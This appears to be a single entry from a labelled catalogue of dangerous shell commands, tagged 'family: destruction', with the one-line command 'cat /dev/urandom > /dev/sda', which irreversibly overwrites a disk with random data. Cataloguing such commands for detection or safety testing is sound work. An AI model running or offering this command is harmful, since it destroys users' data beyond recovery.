# description: Overwrites a disk by redirecting /dev/urandom onto the block device.
# family: destruction
cat /dev/urandom > /dev/sda
